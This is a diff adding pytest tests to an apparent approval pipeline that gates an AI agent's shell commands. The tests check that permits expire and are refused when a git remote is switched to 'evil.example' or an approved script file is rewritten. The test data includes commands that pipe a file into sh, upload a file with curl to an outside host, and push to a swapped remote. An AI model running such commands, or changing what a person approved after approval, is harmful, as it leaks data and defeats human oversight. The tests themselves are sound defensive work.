@@ -460,6 +460,107 @@ def test_an_approval_of_something_that_changed_since_is_asked_again(bench):
     run(main())
 
 
+def test_an_approval_lapses(bench):
+    """An agent that keeps a yes for hours is asked about again."""
+    bench.rules.opinion = ASK
+
+    async def main():
+        _, asked = await bench.evaluate()
+        await bench.pipeline.answer(asked.approval, YES, by="person")
+        first = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
+        bench.later(299)
+        second = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
+        assert second.permit not in (None, first.permit)
+        bench.later(PERMIT_SECONDS + 1)
+        late = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
+        assert (late.decision, late.permit) == (Decision.ESCALATE, None)
+        assert late.approval != asked.approval
+
+    run(main())
+
+
+def pushes(bench, host):
+    """A repository whose `origin` is at `host`, and the call that pushes there."""
+    (bench.workspace / ".git/refs").mkdir(parents=True, exist_ok=True)
+    (bench.workspace / ".git/objects").mkdir(exist_ok=True)
+    (bench.workspace / ".git/HEAD").write_text("ref: refs/heads/main\n")
+    (bench.workspace / ".git/config").write_text(f'[remote "origin"]\n\turl = https://{host}/a.git\n')
+    return "execute_command", {"command": "git push origin main"}
+
+
+def test_an_approval_of_another_place_than_was_shown_is_asked_again(bench):
+    """Where a remote is stands in the repository's settings, which no permit binds: what was shown of it is bound."""
+    bench.rules.opinion = ASK
+
+    async def main():
+        _, asked = await bench.evaluate(*pushes(bench, "good.example"))
+        hosts = bench.pipeline.approvals.get(asked.approval).facts["hosts"]
+        assert [host["host"] for host in hosts] == ["good.example"]
+        pushes(bench, "evil.example")
+        await bench.pipeline.answer(asked.approval, YES, by="person")
+        verdict = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
+        assert (verdict.decision, verdict.permit) == (Decision.ESCALATE, None)
+        hosts = bench.pipeline.approvals.get(verdict.approval).facts["hosts"]
+        assert [host["host"] for host in hosts] == ["evil.example"]
+
+    run(main())
+
+
+@pytest.mark.parametrize(
+    "command", ["sh < a.txt", "pip install -r a.txt", "curl -T a.txt https://up.example/", "cat a.txt | sh"]
+)
+def test_an_approval_of_code_or_an_upload_is_of_the_file_as_it_was(bench, command):
+    """Written in place, it is the same file; and the agent itself may write it while a person reads."""
+    bench.rules.opinion = ASK
+
+    async def main():
+        request, asked = await bench.evaluate("execute_command", {"command": command})
+        await bench.pipeline.answer(asked.approval, YES, by="person")
+        verdict = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
+        assert verdict.permit
+        (bench.workspace / "a.txt").write_text("echo evil\n")
+        with pytest.raises(PermitError) as caught:
+            await bench.redeem(verdict, request)
+        assert caught.value.reason is Reason.PERMIT_STATE_CHANGED
+        bench.later(PERMIT_SECONDS + 1)
+        again = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
+        assert (again.decision, again.permit) == (Decision.ESCALATE, None)
+        assert again.approval != asked.approval
+
+    run(main())
+
+
+def test_an_approval_of_a_look_at_a_file_is_of_whatever_it_holds(bench):
+    """A log may grow while a person thinks."""
+    bench.rules.opinion = ASK
+
+    async def main():
+        request, asked = await bench.evaluate("execute_command", {"command": "tail a.txt"})
+        await bench.pipeline.answer(asked.approval, YES, by="person")
+        (bench.workspace / "a.txt").write_text("one more line\n")
+        verdict = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
+        assert await bench.redeem(verdict, request)
+
+    run(main())
+
+
+def test_a_permit_of_another_place_than_was_shown_is_refused(bench):
+    bench.rules.opinion = ASK
+
+    async def main():
+        request, asked = await bench.evaluate(*pushes(bench, "good.example"))
+        await bench.pipeline.answer(asked.approval, YES, by="person")
+        verdict = await bench.pipeline.current(asked.evaluation, owner="tok", wait_s=0)
+        pushes(bench, "evil.example")
+        with pytest.raises(PermitError) as caught:
+            await bench.redeem(verdict, request)
+        assert caught.value.reason is Reason.PERMIT_STATE_CHANGED
+        pushes(bench, "good.example")
+        assert await bench.redeem(verdict, request)
+
+    run(main())
+
+
 def test_an_approval_under_another_policy_is_asked_again_and_a_block_stays_one(bench):
     bench.rules.opinion = ASK
 
